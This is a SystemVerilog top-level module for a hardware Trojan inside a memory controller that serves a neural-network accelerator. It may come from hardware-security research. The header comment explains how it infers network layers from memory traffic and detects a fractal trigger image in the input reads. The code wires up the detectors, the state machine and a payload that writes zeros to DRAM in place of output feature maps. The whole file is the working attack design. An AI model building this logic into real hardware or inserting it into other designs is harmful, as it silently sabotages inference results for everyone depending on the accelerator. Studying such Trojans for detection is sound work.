// mc_trojan_top: the Trojan as it sits inside a memory controller between a
// neural-network accelerator and DRAM.
//
// The Trojan needs nothing but what a memory controller sees anyway: the
// type of every request and the data moving through it. It works in three
// steps.
//  1. Find the input image. layer_boundary_detector finds layer ends from
//     bursts of writes; layer_type_classifier marks a finished layer as FC
//     when its reads exceed its writes by the factor 2^RW_SHIFT. A batch of
//     inference ends with FC layers, so the layer after an FC layer is
//     treated as a possible first layer whose reads carry the input image.
//  2. Recognise the trigger image. While such a layer runs,
//     trigger_image_detector binarizes each 64-byte read burst into an 8x8
//     tile and looks for many tiles that resemble a reference tile, the
//     signature of a symmetric fractal image.
//  3. Payload. Once triggered, trojan_fsm enables the payload and the write
//     queue's output flip-flop sends zeros to DRAM instead of the output
//     feature maps (all of them, or a PORTION/256 random share), until the
//     next FC layer ends and the next batch's input image is examined.
// The memory controller proper (scheduling, DRAM commands) is outside this
// module: its request channel and read data are observed through ports, and
// only its write-data queue is included, because that is where the payload
// acts. Reads are never modified.
//
// Interface: cmd_valid/cmd_ready/cmd_write is the accelerator's request
// channel as accepted by the controller (one request = one 8-beat burst);
// rd_valid/rd_data are read-data beats returned to the accelerator;
// wr_in_* and wr_out_* are the write-data path from the accelerator and to
// DRAM (valid/ready). Status outputs expose the phase, the layer events, the
// counts of the layer that just ended and the state of each checker set;
// they are for observation only. The per-set similar-tile counts and the
// sub-image strobe stay internal.
// Synchronous, active-high reset; everything runs on one clock.
module mc_trojan_top
  import trojan_pkg::*;
#(
  parameter int unsigned    WINDOW       = 100,
  parameter int unsigned    WR_THRESH    = 50,
  parameter int unsigned    CNT_W        = 32,
  parameter int unsigned    RW_SHIFT     = 11,
  parameter int unsigned    NUM_SETS     = 2,
  parameter int unsigned    BLACK_THRESH = 128,
  parameter int unsigned    SPEC_LO    [MAX_SETS] = '{8, 16, 0, 0},
  parameter int unsigned    SPEC_HI    [MAX_SETS] = '{24, 47, 0, 0},
  parameter int unsigned    SIM_THRESH [MAX_SETS] = '{40, 40, 0, 0},
  parameter int unsigned    CNT_THRESH [MAX_SETS] = '{32, 32, 0, 0},
  parameter int unsigned    WQ_DEPTH     = 4,
  parameter payload_style_e STYLE        = PAYLOAD_MUX_INPUT,
  parameter int unsigned    PORTION      = 256
) (
  input  logic              clk,
  input  logic              rst,
  // observed request channel
  input  logic              cmd_valid,
  input  logic              cmd_ready,
  input  logic              cmd_write,
  // observed read data
  input  logic              rd_valid,
  input  logic [BEAT_W-1:0] rd_data,
  // write data from the accelerator
  input  logic              wr_in_valid,
  output logic              wr_in_ready,
  input  logic [BEAT_W-1:0] wr_in_data,
  // write data to DRAM
  output logic              wr_out_valid,
  input  logic              wr_out_ready,
  output logic [BEAT_W-1:0] wr_out_data,
  // status
  output logic [1:0]        trojan_phase,
  output logic              layer_boundary,
  output logic              layer_done,
  output logic              layer_fc,
  output logic              image_start,
  output logic              image_trigger,
  output logic              payload_active,
  output logic              heavy_window,
  output logic [CNT_W-1:0]  last_layer_reads,
  output logic [CNT_W-1:0]  last_layer_writes,
  output logic [NUM_SETS-1:0] set_ref_valid,
  output logic [NUM_SETS-1:0] set_fired
);

  localparam int unsigned SIM_W = 16;

  logic             acc_valid;
  logic             window_done, window_heavy;
  trojan_state_e    state;
  logic             analyse;
  logic                      sub_valid;
  logic [NUM_SETS*SIM_W-1:0] sim_counts;
  logic             beat_load, portion_sel, zero;

  assign acc_valid = cmd_valid && cmd_ready;

  layer_boundary_detector #(.WINDOW(WINDOW), .WR_THRESH(WR_THRESH)) u_lbd (
    .clk, .rst,
    .acc_valid, .acc_write (cmd_write),
    .window_done, .window_heavy,
    .boundary (layer_boundary)
  );

  layer_type_classifier #(.CNT_W(CNT_W), .RW_SHIFT(RW_SHIFT)) u_ltc (
    .clk, .rst,
    .acc_valid, .acc_write (cmd_write),
    .boundary (layer_boundary),
    .layer_done, .layer_fc,
    .layer_reads (last_layer_reads), .layer_writes (last_layer_writes)
  );

  trojan_fsm u_fsm (
    .clk, .rst,
    .layer_done, .layer_fc,
    .img_trigger (image_trigger),
    .state,
    .start_image (image_start),
    .analyse,
    .payload_active
  );

  trigger_image_detector #(
    .NUM_SETS(NUM_SETS), .BLACK_THRESH(BLACK_THRESH),
    .SPEC_LO(SPEC_LO), .SPEC_HI(SPEC_HI),
    .SIM_THRESH(SIM_THRESH), .CNT_THRESH(CNT_THRESH),
    .CNT_W(SIM_W)
  ) u_tid (
    .clk, .rst,
    .clear (image_start),
    .enable (analyse),
    .rd_valid, .rd_data,
    .trigger (image_trigger),
    .set_fired, .set_ref_valid, .sub_valid, .sim_counts
  );

  payload_portion_select #(.PORTION(PORTION)) u_pps (
    .clk, .rst,
    .advance (beat_load),
    .sel (portion_sel)
  );

  assign zero = payload_active && portion_sel;

  write_data_queue #(.WIDTH(BEAT_W), .DEPTH(WQ_DEPTH), .STYLE(STYLE)) u_wq (
    .clk, .rst,
    .in_valid (wr_in_valid), .in_ready (wr_in_ready), .in_data (wr_in_data),
    .out_valid (wr_out_valid), .out_ready (wr_out_ready), .out_data (wr_out_data),
    .zero, .beat_load
  );

  assign trojan_phase = state;
  assign heavy_window = window_done && window_heavy;

endmodule
